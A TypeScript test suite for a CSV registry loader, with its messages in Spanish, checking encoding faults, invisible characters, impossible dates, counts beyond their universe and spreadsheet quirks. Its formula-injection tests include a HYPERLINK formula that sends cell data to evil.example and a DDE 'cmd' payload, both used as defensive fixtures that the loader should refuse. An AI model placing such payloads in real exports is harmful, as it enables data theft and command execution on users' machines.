/**
 * Bad input people really send. Issue 8: text encoded twice, rows that lost their trailing empty fields,
 * invisible characters, and files whose header does not parse because of their shape. Issue 15: text a
 * spreadsheet would run as a formula, dates before the programme or after the build, events after their
 * source, counts beyond their universe, Excel's empty rows, booleans as spreadsheets write them. Each kind
 * has a small fixture and the exact message.
 */
import {readFileSync} from "node:fs";
import {readdir, readFile} from "node:fs/promises";
import {join} from "node:path";
import {gzipSync} from "node:zlib";
import {describe, expect, it} from "vitest";
import {formatProblem, InvalidInputError} from "../loaders/problems.js";
import {parseCsv} from "../loaders/registry/csv-parse.js";
import {DEFAULT_REGISTRY_DIR, loadRegistry} from "../loaders/registry/registry.js";
import {repairDoubleEncoding, showInvisible} from "../loaders/text-faults.js";
import {SCHEMA, TABLE_NAMES, tableFile} from "../metrics/model/schema.js";
import {brief, type Mutation, mutatedRegistry, problemsOf, VALID_FIXTURE} from "./helpers/registry-fixture.js";
import {formulaLike, protectCell, runsAsFormula, unprotectCell} from "../metrics/model/formula.js";
import {monthlyPhases} from "../metrics/monthly-phases.js";

const utf8 = (text: string) => new TextEncoder().encode(text);

/** The error a registry folder gives when loaded (fails if it loads). */
async function errorOf(dir: string): Promise<InvalidInputError> {
  try {
    await loadRegistry(dir);
  } catch (error) {
    if (error instanceof InvalidInputError) return error;
    throw error;
  }
  throw new Error("Se esperaba un registro inválido");
}

describe("text encoded twice (UTF-8 read as Windows-1252 and saved again)", () => {
  it("repairDoubleEncoding gives the text it most likely was", () => {
    expect(
      [
        "MÃ©xico",
        "Nuevo LeÃ³n",
        "YucatÃ¡n",
        "AuditorÃ­a Superior de la FederaciÃ³n",
        "Villa de Ã\u0081lvarez",
        "â€”",
        "MÃƒÂ©xico"
      ].map(repairDoubleEncoding)
    ).toEqual([
      "México",
      "Nuevo León",
      "Yucatán",
      "Auditoría Superior de la Federación",
      "Villa de Álvarez",
      "—",
      "México"
    ]);
  });

  it("leaves legitimate Spanish alone, even when its bytes happen to form UTF-8", () => {
    expect(
      [
        "Señor",
        "ÁREA",
        "año",
        "PEÑA",
        "«PARTICIPACIÓN»",
        "ÉXITO–",
        "Ñ”",
        "São Paulo",
        "Conacyt € Durango",
        "Parai\u008cso"
      ].map(repairDoubleEncoding)
    ).toEqual(Array(10).fill(null));
  });

  it("is refused in any text cell of any table, with the text it most likely was", async () => {
    const problems = await problemsOf(
      {
        file: "entidades.csv",
        replace: "15,MX-MEX,México,Estado de México",
        with: "15,MX-MEX,MÃ©xico,Estado de MÃ©xico"
      },
      {file: "entidades.csv", replace: "31,MX-YUC,Yucatán,Yucatán", with: "31,MX-YUC,YucatÃ¡n,Yucatán"},
      {
        file: "hitos.csv",
        replace: '"""El 9 de marzo de 2015"" (prueba)"',
        with: '"""El 9 de marzo de 2015"" (pÃ¡gina 3)"'
      }
    );
    expect(problems).toEqual([
      'entidades.csv:16:11 nombre "MÃ©xico" → texto codificado una sola vez; éste parece UTF-8 leído como Windows-1252 y guardado de nuevo: probablemente decía "México"',
      'entidades.csv:16:19 nombre_corto "Estado de MÃ©xico" → texto codificado una sola vez; éste parece UTF-8 leído como Windows-1252 y guardado de nuevo: probablemente decía "Estado de México"',
      'entidades.csv:32:11 nombre "YucatÃ¡n" → texto codificado una sola vez; éste parece UTF-8 leído como Windows-1252 y guardado de nuevo: probablemente decía "Yucatán"',
      'hitos.csv:2:79 cita "\\"El 9 de marzo de 2015\\" (pÃ¡gina 3)" → texto codificado una sola vez; éste parece UTF-8 leído como Windows-1252 y guardado de nuevo: probablemente decía "\\"El 9 de marzo de 2015\\" (página 3)"'
    ]);
  });

  it("is not found in any cell of the shipped registry (except where a source's text is kept verbatim)", async () => {
    await expect(loadRegistry()).resolves.toBeTruthy();
    const flagged: string[] = [];
    for (const name of TABLE_NAMES) {
      const text = await readFile(join(DEFAULT_REGISTRY_DIR, tableFile(name)), "utf8");
      const verbatim = SCHEMA[name].columns.map((c) => "verbatim" in c && c.verbatim === true);
      for (const r of parseCsv(text, name).records) {
        for (const [k, v] of r.fields.entries())
          if (!verbatim[k] && repairDoubleEncoding(v) !== null) flagged.push(`${name}:${r.line}: ${v}`);
      }
    }
    expect(flagged).toEqual([]);
    const csvs = (await readdir(DEFAULT_REGISTRY_DIR)).filter((f) => f.endsWith(".csv"));
    expect(csvs.sort()).toEqual(TABLE_NAMES.map(tableFile).sort());
  });
});

describe("rows that lost their trailing empty fields", () => {
  /** The fixture's fuentes.csv with the trailing empty fields of lines 2 and 3 dropped, as some exporters do. */
  const fuentesWithShortRows = readFileSync(join(VALID_FIXTURE, "fuentes.csv"), "utf8")
    .split("\n")
    .map((line, k) => (k === 1 || k === 2 ? line.replace(/,+$/, "") : line))
    .join("\n");

  it("lists the broken table's own problems, naming the missing columns, and no reference echoes", async () => {
    expect(await problemsOf({file: "fuentes.csv", bytes: utf8(fuentesWithShortRows)})).toEqual([
      'fuentes.csv:2:135 - "8 campos" → 13 campos separados por comas, como el encabezado; faltan los 5 últimos, archivo, copia, repositorio, ruta, commit (¿el programa que exportó el archivo quitó los campos vacíos del final, falta una coma o el archivo está truncado?)',
      'fuentes.csv:3:78 - "9 campos" → 13 campos separados por comas, como el encabezado; faltan los 4 últimos, copia, repositorio, ruta, commit (¿el programa que exportó el archivo quitó los campos vacíos del final, falta una coma o el archivo está truncado?)'
    ]);
  });

  it("says once which references could not be checked", async () => {
    const dir = await mutatedRegistry({file: "fuentes.csv", bytes: utf8(fuentesWithShortRows)});
    const error = await errorOf(dir);
    expect(error.notes.map((n) => n.replaceAll(`${dir}/`, ""))).toEqual([
      "No se comprobaron 56 referencias a fuentes.csv desde entidades.csv (fuente_id, fuente_id_participa, fuente_id_grupo_inai), hitos.csv (fuente_id), estatus_reportados.csv (fuente_id), compromisos.csv (fuente_id), planes.csv (fuente_id_nombre, fuente_id), totales_reportados.csv (fuente_id), metas.csv (fuente_id), casos.csv (fuente_id), casos_cifras.csv (fuente_id): fuentes.csv tiene filas que no se pudieron leer; corrija primero sus problemas."
    ]);
    expect(error.message.split("\n")).toHaveLength(1 + 2 + 1);
  });

  it("puts a broken table's problems before the other tables' problems", async () => {
    const problems = await problemsOf(
      {file: "compromisos.csv", replace: "coa-1-p1,", with: "coa-1-01,"},
      {file: "fuentes.csv", bytes: utf8(fuentesWithShortRows)}
    );
    expect(problems.map((p) => p.slice(0, 16))).toEqual(["fuentes.csv:2:13", "fuentes.csv:3:78", "compromisos.csv:"]);
  });

  it("a state key that cannot be read keeps entidades from being checked for missing states", async () => {
    expect(
      await problemsOf({
        file: "entidades.csv",
        replace: "13,MX-HID,Hidalgo,Hidalgo,inegi-claves-entidades,,,,,,,,,",
        with: "13,MX-HID,Hidalgo,Hidalgo,inegi-claves-entidades,,,,,"
      })
    ).toEqual([
      'entidades.csv:14:54 - "10 campos" → 14 campos separados por comas, como el encabezado; faltan los 4 últimos, cita_anio_inicio, grupo_inai, fuente_id_grupo_inai, cita_grupo_inai (¿el programa que exportó el archivo quitó los campos vacíos del final, falta una coma o el archivo está truncado?)'
    ]);
  });
});

describe("invisible characters", () => {
  it("are shown as code points in every message", () => {
    expect(showInvisible("sensibilizacion\u200b")).toBe("sensibilizacion<U+200B>");
    expect(
      formatProblem({
        file: "f.csv",
        line: 3,
        column: 4,
        field: "cita",
        value: "a\u00a0b\ufeffc\u0007d\te",
        expected: "x \u200b"
      })
    ).toBe('f.csv:3:4 (cita) valor "a<U+00A0>b<U+FEFF>c<U+0007>d<U+0009>e": se esperaba x <U+200B>');
  });

  it("a zero-width space in a value from a list", async () => {
    const problems = await problemsOf({
      file: "estatus_reportados.csv",
      replace: "05,2016,Seguimiento PAL,pal_en_seguimiento,",
      with: "05,2016,Seguimiento PAL,pal_en_seguimiento\u200b,"
    });
    expect(problems).toEqual([
      'estatus_reportados.csv:3:25 fase_normalizada "pal_en_seguimiento<U+200B>" → "pal_en_seguimiento", sin caracteres invisibles: tiene U+200B (espacio de ancho cero)'
    ]);
  });

  it("a non-breaking space in an identifier, a tab in a number, a soft hyphen in a date", async () => {
    const problems = await problemsOf(
      {file: "totales_reportados.csv", replace: ",prueba-lista,", with: ",prueba\u00a0lista,"},
      {file: "compromisos.csv", replace: "Transparencia,no,,,,100,", with: "Transparencia,no,,,,1\t00,"},
      {file: "hitos.csv", replace: "declaratoria,2015-03-09,", with: "declaratoria,2015-\u00ad03-09,"}
    );
    expect(problems).toEqual([
      // totales_reportados.csv comes first: its key cannot be read, so it is a broken table.
      'totales_reportados.csv:2:31 fuente_id "prueba<U+00A0>lista" → un identificador con minúsculas, dígitos, "-" o "_", sin caracteres invisibles: tiene U+00A0 (espacio de no separación)',
      'compromisos.csv:2:124 avance "1<U+0009>00" → un número con punto decimal (p. ej. 75.5), sin caracteres invisibles: tiene U+0009 (tabulador)',
      'hitos.csv:2:44 fecha_min "2015-<U+00AD>03-09" → "2015-03-09", sin caracteres invisibles: tiene U+00AD (guion suave)'
    ]);
  });

  it("a byte-order mark in the middle of a file is named as such", async () => {
    const problems = await problemsOf({
      file: "hitos.csv",
      replace: "\ncoa-1-instalacion_stl-lista,",
      with: "\n\ufeffcoa-1-instalacion_stl-lista,"
    });
    expect(problems).toEqual([
      'hitos.csv:3:1 hito_id "<U+FEFF>coa-1-instalacion_stl-lista" → un valor sin marca de orden de bytes (BOM, U+FEFF): sólo puede ir al inicio del archivo; ¿se pegó aquí el contenido de otro archivo? bórrela'
    ]);
  });
});

describe("a header that does not parse says what the file looks like", () => {
  const header = "fecha_corte,indicador,valor,fuente_id,cita,quien_lo_dice";
  const row = "2019,estados_participantes,29,prueba-lista,29 estados (prueba),";
  const expected = `el encabezado ${header}`;

  it("`;` as separator", async () => {
    expect(
      await problemsOf({
        file: "totales_reportados.csv",
        bytes: utf8(`${header.replaceAll(",", ";")}\n${row.replaceAll(",", ";")}\n`)
      })
    ).toEqual([
      `totales_reportados.csv:1:1 - "fecha_corte;indicador;valor;fuente_id;cita;quien_lo_dice" → ${expected} (columna 1: fecha_corte); el archivo parece separado por «;» (como lo guarda Excel con la configuración regional de México o España): guárdelo como CSV separado por comas`
    ]);
  });

  it("CR-only line ends", async () => {
    expect(await problemsOf({file: "totales_reportados.csv", bytes: utf8(`${header}\r${row}\r`)})).toEqual([
      `totales_reportados.csv:1:44 - "quien_lo_dice<U+000D>2019" → ${expected} (columna 6: quien_lo_dice); el archivo usa sólo retorno de carro (CR, U+000D) como fin de línea, como los Mac antiguos: guárdelo con fin de línea LF o CRLF`
    ]);
  });

  it("a BOM read in the wrong encoding (ï»¿ at the start)", async () => {
    expect(await problemsOf({file: "totales_reportados.csv", bytes: utf8(`ï»¿${header}\n${row}\n`)})).toEqual([
      `totales_reportados.csv:1:1 - "ï»¿fecha_corte" → ${expected} (columna 1: fecha_corte); el archivo empieza con «ï»¿», una marca de orden de bytes (BOM) de UTF-8 leída como Windows-1252 y guardada de nuevo: bórrela, o guarde otra vez el archivo original como UTF-8`
    ]);
  });

  it("a second BOM", async () => {
    expect(await problemsOf({file: "totales_reportados.csv", bytes: utf8(`\ufeff\ufeff${header}\n${row}\n`)})).toEqual([
      `totales_reportados.csv:1:1 - "<U+FEFF>fecha_corte" → ${expected} (columna 1: fecha_corte); el archivo empieza con una marca de orden de bytes (BOM, U+FEFF) de más: bórrela`
    ]);
  });
});

// ── Issue 15: hostile input, round 3 ──────────────────────────────────────────────────────────────────

/** The day the round-3 tests validate on, so that messages naming the build date are exact. */
const TODAY = "2026-12-03";

/** Problems of a mutated fixture validated on {@link TODAY}, in brief form; fails if it loads without error. */
async function problemsOn(...mutations: Mutation[]): Promise<string[]> {
  const dir = await mutatedRegistry(...mutations);
  try {
    await loadRegistry(dir, {today: TODAY});
  } catch (error) {
    if (error instanceof InvalidInputError) return error.problems.map(brief);
    throw error;
  }
  throw new Error("Se esperaba un registro inválido, pero se validó sin problemas");
}

const FORMULA =
  'un texto que no empiece con "=", "+", "-", "@", tabulador ni retorno de carro (tampoco tras espacios): Excel y LibreOffice lo tomarían por una fórmula; si la fuente lo escribe así, póngalo entre comillas tipográficas («=…») o empiece con otra palabra';

describe("formula-like text (a spreadsheet would run it)", () => {
  it("the compromiso title =HYPERLINK(…) is refused with file, line, column, value and what was expected", async () => {
    expect(
      await problemsOn({
        file: "compromisos.csv",
        replace: '"Realizar un informe público de la deuda pública, para descarga en formatos abiertos."',
        with: '"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver fuente"")"'
      })
    ).toEqual([
      `compromisos.csv:2:17 titulo "=HYPERLINK(\\"http://evil.example/?d=\\"&A1,\\"Ver fuente\\")" → ${FORMULA}`
    ]);
  });

  it("in any text column of any table: +, -, @, a leading tab or CR, after spaces, full-width signs", async () => {
    expect(
      await problemsOn(
        {file: "fuentes.csv", replace: "Nota de prueba", with: "+cmd|' /C calc'!A0"},
        {file: "casos.csv", replace: "Un problema (prueba).", with: "@SUM(1+1)"},
        {file: "hitos.csv", replace: '"""el pasado 22 de septiembre"" (prueba)"', with: "-2+3"},
        {file: "entidades.csv", replace: "Aguascalientes,Aguascalientes", with: "Aguascalientes,\tAguascalientes"},
        {file: "casos.csv", replace: "Otra solución (prueba).", with: '"\r=1+1"'},
        {file: "casos.csv", replace: "Otro beneficio (prueba).", with: "＝1+1"},
        {file: "compromisos.csv", replace: "Compromiso proactivo de prueba", with: "  =1+1"}
      )
    ).toEqual([
      `casos.csv:2:72 problema "@SUM(1+1)" → ${FORMULA}`,
      `casos.csv:3:41 solucion "<U+000D>=1+1" → ${FORMULA}`,
      `casos.csv:3:49 beneficios "＝1+1" → ${FORMULA}`,
      `compromisos.csv:3:17 titulo "  =1+1" → ${FORMULA}`,
      `entidades.csv:2:26 nombre_corto "<U+0009>Aguascalientes" → ${FORMULA}`,
      `fuentes.csv:4:20 titulo "+cmd|' /C calc'!A0" → ${FORMULA}`,
      `hitos.csv:4:83 cita "-2+3" → ${FORMULA}`
    ]);
  });

  it("formulaLike, runsAsFormula and protectCell: negative numbers and ISO dates are not formulas", () => {
    const cells = [
      "=1+1",
      "+A1",
      "-x",
      "@A1",
      "\tx",
      "\rx",
      " =x",
      "＠x",
      "-3",
      "+2.5",
      "1e-7",
      "2015-03-09",
      "a=b",
      ""
    ];
    expect(cells.map(formulaLike)).toEqual([...Array(10).fill(true), false, false, false, false]);
    expect(cells.map(runsAsFormula)).toEqual([...Array(8).fill(true), false, false, false, false, false, false]);
    expect(["=1+1", "-3", "'hola", "hola"].map(protectCell)).toEqual(["'=1+1", "'-3", "''hola", "hola"]);
    for (const c of [...cells, "'hola", "''x"]) expect(unprotectCell(protectCell(c))).toBe(c);
  });

  it("is not found in any text cell of the shipped registry (nor a leading apostrophe, so the guard is unambiguous)", async () => {
    const flagged: string[] = [];
    for (const name of TABLE_NAMES) {
      const text = (await readFile(join(DEFAULT_REGISTRY_DIR, tableFile(name)), "utf8")).replace(/^\uFEFF/, "");
      for (const r of parseCsv(text, name).records.slice(1))
        for (const [k, v] of r.fields.entries())
          if (formulaLike(v) || v.startsWith("'")) flagged.push(`${name}:${r.line}:${SCHEMA[name].columns[k].name}`);
    }
    expect(flagged).toEqual([]);
  });
});

const AFTER_BUILD = "el registro no guarda fechas futuras ni programadas (¿se escribió mal el año?)";
const BEFORE_PROGRAMME =
  "el programa «Cocreación desde lo local» empezó en 2015 y el registro no guarda nada anterior (¿se escribió mal el año?)";

describe("dates that cannot be: before 2015 or after the build date", () => {
  it("a PAL typed as 2031", async () => {
    expect(await problemsOn({file: "hitos.csv", replace: ",,2019-05-31", with: ",2031-05-01,2031-05-31"})).toEqual([
      `hitos.csv:8:50 fecha_min "2031-05-01" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`,
      `hitos.csv:8:61 fecha_max "2031-05-31" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`
    ]);
  });

  it("a Declaratoria before the programme existed", async () => {
    expect(
      await problemsOn({
        file: "hitos.csv",
        replace: "declaratoria,2015-03-09,2015-03-09",
        with: "declaratoria,2014-12-01,2014-12-31"
      })
    ).toEqual([
      `hitos.csv:2:44 fecha_min "2014-12-01" → una fecha desde 2015-01-01: ${BEFORE_PROGRAMME}`,
      `hitos.csv:2:55 fecha_max "2014-12-31" → una fecha desde 2015-01-01: ${BEFORE_PROGRAMME}`
    ]);
  });

  it("in any date column of any table: a source dated after the build, a total before 2015, a year in the future", async () => {
    expect(
      await problemsOn(
        {file: "fuentes.csv", replace: "Diario de prueba,2015-09,", with: "Diario de prueba,2027-01,"},
        {file: "totales_reportados.csv", replace: "2019,", with: "2014,"},
        {
          file: "entidades.csv",
          replace: "Aguascalientes,Aguascalientes,inegi-claves-entidades,,,,,,,,,",
          with: "Aguascalientes,Aguascalientes,inegi-claves-entidades,,,,2027,prueba-lista,x,,,"
        },
        {file: "metas.csv", replace: "2017-01-01", with: "2027-01-01"},
        {file: "mga_reportados.csv", replace: "nota\n", with: "nota\n2031,nacional,,ga,0.5,prueba-lista,x,\n"}
      )
    ).toEqual([
      `entidades.csv:2:67 anio_inicio "2027" → un año hasta 2026, el de esta validación: ${AFTER_BUILD}`,
      `fuentes.csv:4:56 fecha "2027-01" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`,
      'metas.csv:2:68 fecha_min "2027-01-01" → una fecha no posterior a fecha_max (2017-03-31)',
      `metas.csv:2:68 fecha_min "2027-01-01" → una fecha hasta ${TODAY}, la de esta validación: ${AFTER_BUILD}`,
      `mga_reportados.csv:2:1 edicion "2031" → un año hasta 2026, el de esta validación: ${AFTER_BUILD}`,
      `totales_reportados.csv:2:1 fecha_corte "2014" → una fecha desde 2015-01-01: ${BEFORE_PROGRAMME}`
    ]);
  });

  it("a partial date is refused only when none of its days fits: 2026 passes on 2026-12-03", async () => {
    const dir = await mutatedRegistry({
      file: "fuentes.csv",
      replace: "Diario de prueba,2015-09,",
      with: "Diario de prueba,2026,"
    });
    await expect(loadRegistry(dir, {today: TODAY})).resolves.toBeTruthy();
  });

  it("the monthly panel of the shipped registry never runs past the month of the build", async () => {
    const panel = monthlyPhases(await loadRegistry());
    const last = panel.map((r) => r.fecha).reduce((a, b) => (b > a ? b : a));
    expect(last.slice(0, 7) <= new Date().toISOString().slice(0, 7)).toBe(true);
  });
});

describe("an event dated after the source that reports it", () => {
  const AFTER_SOURCE =
    "y una fuente no puede informar lo que aún no ocurría; corrija la fecha o cite la fuente que lo informa";

  it("a milestone and a reported status later than their sources are refused", async () => {
    expect(
      await problemsOn(
        {
          file: "hitos.csv",
          replace: "instalacion_stl,2015-09-22,2015-09-22,prueba-nota",
          with: "instalacion_stl,2015-10-05,2015-10-05,prueba-nota"
        },
        {file: "estatus_reportados.csv", replace: "10,2016,", with: "10,2020,"}
      )
    ).toEqual([
      `estatus_reportados.csv:2:4 fecha_corte "2020" → una fecha no posterior a la de su fuente: prueba-lista es de 2019 (fuentes.csv, línea 3) ${AFTER_SOURCE}`,
      `hitos.csv:4:49 fecha_min "2015-10-05" → una fecha no posterior a la de su fuente: prueba-nota es de 2015-09 (fuentes.csv, línea 4) ${AFTER_SOURCE}`
    ]);
  });

  it("a source dated only by its year may report anything in that year; an undated source is not compared", async () => {
    const dir = await mutatedRegistry(
      {file: "hitos.csv", replace: ",,2019-05-31", with: ",2019-12-31,2019-12-31"},
      {file: "hitos.csv", replace: "2015-09-22,2015-09-22,prueba-nota", with: "2015-09-30,2015-09-30,prueba-nota"},
      {
        file: "totales_reportados.csv",
        replace: "2019,estados_participantes,29,prueba-lista",
        with: "2024,estados_participantes,29,inegi-claves-entidades"
      }
    );
    await expect(loadRegistry(dir, {today: TODAY})).resolves.toBeTruthy();
  });
});

describe("counts beyond their universe", () => {
  it("estados_participantes = 40", async () => {
    expect(
      await problemsOn({
        file: "totales_reportados.csv",
        replace: "2019,estados_participantes,29,",
        with: "2019,estados_participantes,40,"
      })
    ).toEqual([
      'totales_reportados.csv:2:28 valor "40" → a lo más 32, porque cuenta entidades federativas: México tiene 32'
    ]);
  });

  it("other totals and other tables: STL beyond the participating states, plans beyond 32 × 9, a state's sujetos obligados beyond the country's", async () => {
    expect(
      await problemsOn(
        {
          file: "totales_reportados.csv",
          replace: "\n",
          with: '\n2019,stl_instalados,30,prueba-lista,"x (prueba)",\n2019,pal_publicados,300,prueba-lista,"y (prueba)",\n2018,stl_instalados,33,prueba-lista,"z (prueba)",\n'
        },
        {
          file: "mga_reportados.csv",
          replace: "nota\n",
          with: "nota\n2017,nacional,,sujetos_obligados,908,prueba-lista,x,\n2017,estatal,05,sujetos_obligados,1000,prueba-lista,y,\n2017,federal,,sujetos_obligados,909,prueba-lista,z,\n"
        }
      )
    ).toEqual([
      'mga_reportados.csv:3:35 valor "1000" → a lo más 908, los sujetos obligados de todo el país en la edición 2017 (mga_reportados.csv, línea 2)',
      'mga_reportados.csv:4:33 valor "909" → a lo más 908, los sujetos obligados de todo el país en la edición 2017 (mga_reportados.csv, línea 2)',
      'totales_reportados.csv:2:21 valor "30" → a lo más 29, las entidades participantes que la misma fuente reporta a la misma fecha (línea 5): un STL se instala después de la Declaratoria',
      'totales_reportados.csv:3:21 valor "300" → a lo más 288, porque cuenta planes, uno por entidad y ejercicio: 32 entidades × 9 ejercicios',
      'totales_reportados.csv:4:21 valor "33" → a lo más 32, porque cuenta entidades con STL, uno por entidad: México tiene 32'
    ]);
    expect(await problemsOn({file: "casos_cifras.csv", replace: ",96,% de", with: ",960,% de"})).toEqual([
      expect.stringMatching(
        /^casos_cifras\.csv:2:\d+ valor "960" → a lo más 100, porque la unidad es un porcentaje \(% de /
      )
    ]);
  });
});

describe("Excel's empty rows (rows of bare commas)", () => {
  const compromisosEnd = "sí,,,,,,,prueba-lista,Proactivo (prueba),,,,,,,,,,,,,,,\n";
  const bare = `${",".repeat(SCHEMA.compromisos.columns.length - 1)}\n`;

  it("300 of them are named once, as a run, and the real error in another table is still shown", async () => {
    const dir = await mutatedRegistry(
      {file: "compromisos.csv", replace: compromisosEnd, with: compromisosEnd + bare.repeat(300)},
      {file: "fuentes.csv", replace: "2015-09,", with: "2015-13,"}
    );
    const error = await errorOf(dir);
    expect(error.problems.map(brief)).toEqual([
      `compromisos.csv:4:1 - "${bare.trim()}" → una fila con datos: ésta es una fila vacía (sin ningún valor), y lo son también las 299 siguientes, hasta la línea 303; probablemente quedó de borrar filas en una hoja de cálculo: bórrelas`,
      'fuentes.csv:4:56 fecha "2015-13" → una fecha AAAA, AAAA-MM o AAAA-MM-DD real'
    ]);
    expect(error.message).toContain("fuentes.csv:4:56 (fecha)");
    expect(error.notes).toEqual([]);
  });

  it("each run once, whatever its number of commas; one row alone is named alone", async () => {
    expect(
      await problemsOn(
        {file: "compromisos.csv", replace: compromisosEnd, with: `${compromisosEnd}${bare}${bare}`},
        {file: "compromisos.csv", replace: "\ncoa-1-p1,", with: "\n,,,\ncoa-1-p1,"},
        {file: "hitos.csv", replace: "\ndur-1-", with: "\n,,,,,,,\ndur-1-"},
        {file: "metas_entidades.csv", replace: "\n", with: "\n;;;\r\n  ,  \r\n"}
      )
    ).toEqual([
      'compromisos.csv:3:1 - ",,," → una fila con datos: ésta es una fila vacía (sin ningún valor); probablemente quedó de borrar filas en una hoja de cálculo: bórrela',
      `compromisos.csv:5:1 - "${bare.trim()}" → una fila con datos: ésta es una fila vacía (sin ningún valor), y lo es también la siguiente (línea 6); probablemente quedó de borrar filas en una hoja de cálculo: bórrelas`,
      'hitos.csv:6:1 - ",,,,,,," → una fila con datos: ésta es una fila vacía (sin ningún valor); probablemente quedó de borrar filas en una hoja de cálculo: bórrela',
      'metas_entidades.csv:2:1 - ";;;" → una fila con datos: ésta es una fila vacía (sin ningún valor), y lo es también la siguiente (línea 3); probablemente quedó de borrar filas en una hoja de cálculo: bórrelas'
    ]);
  });

  it("one file's hundreds of problems never hide another file's: every file's first problems are listed", async () => {
    const bad = Array.from(
      {length: 300},
      (_, k) => `zz-${k},05,1,,Título ${k},,quizá,,,,,,,prueba-lista,x,,,,,,,,,,,,,,,\n`
    ).join("");
    const dir = await mutatedRegistry(
      {file: "compromisos.csv", replace: compromisosEnd, with: compromisosEnd + bad},
      {
        file: "totales_reportados.csv",
        replace: "2019,estados_participantes,29,",
        with: "2019,estados_participantes,40,"
      }
    );
    const error = await errorOf(dir);
    expect(error.problems).toHaveLength(301);
    const lines = error.message.split("\n");
    expect(lines.map((l) => l.replaceAll(`${dir}/`, ""))).toContain(
      'totales_reportados.csv:2:28 (valor) valor "40": se esperaba a lo más 32, porque cuenta entidades federativas: México tiene 32'
    );
    expect(lines.at(-1)).toMatch(/^… y 101 problemas más \(.*compromisos\.csv: 101\)$/);
  });
});

describe("a table that is compressed or a workbook", () => {
  it("is named as such, not as text in the wrong encoding", async () => {
    const gz = gzipSync(readFileSync(join(VALID_FIXTURE, "hitos.csv")));
    expect(
      await problemsOn(
        {file: "hitos.csv", bytes: new Uint8Array(gz)},
        {file: "metas.csv", bytes: new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00])}
      )
    ).toEqual([
      'hitos.csv:1:1 - "archivo gzip" → un CSV de texto en UTF-8: la tabla viene comprimida en gzip; descomprímala, o ábrala y guárdela como CSV UTF-8',
      'metas.csv:1:1 - "archivo ZIP" → un CSV de texto en UTF-8: la tabla viene comprimida en ZIP (o es un libro de Excel .xlsx o de LibreOffice .ods); descomprímala, o ábrala y guárdela como CSV UTF-8'
    ]);
  });
});

describe("booleans written as a spreadsheet writes them", () => {
  it("TRUE, Sí and 1 are refused with one message each, naming the accepted forms, and no second 'empty' error", async () => {
    expect(
      await problemsOn(
        {file: "compromisos.csv", replace: "Transparencia,no,", with: "Transparencia,TRUE,"},
        {
          file: "entidades.csv",
          replace: "Aguascalientes,Aguascalientes,inegi-claves-entidades,,,,",
          with: "Aguascalientes,Aguascalientes,inegi-claves-entidades,Sí,prueba-lista,cita,"
        },
        {file: "compromisos.csv", replace: "Proactivo (prueba),,", with: "Proactivo (prueba),1,"},
        {
          file: "fuentes.csv",
          replace: "Documento de prueba con una lista de estados,si,",
          with: "Documento de prueba con una lista de estados,FALSO,"
        }
      )
    ).toEqual([
      'compromisos.csv:2:118 proactivo "TRUE" → "si", "sí" o "no", en minúsculas (o vacío si no se sabe); "TRUE" parece un "si": escriba si',
      'compromisos.csv:3:90 calidad_redaccion_clara "1" → "si", "sí" o "no", en minúsculas (o vacío si no se sabe); "1" parece un "si": escriba si',
      'entidades.csv:2:64 participa "Sí" → "si", "sí" o "no", en minúsculas (o vacío si no se sabe); "Sí" parece un "si": escriba si',
      'fuentes.csv:3:67 titulo_atribuido "FALSO" → "si", "sí" o "no", en minúsculas; "FALSO" parece un "no": escriba no'
    ]);
  });
});
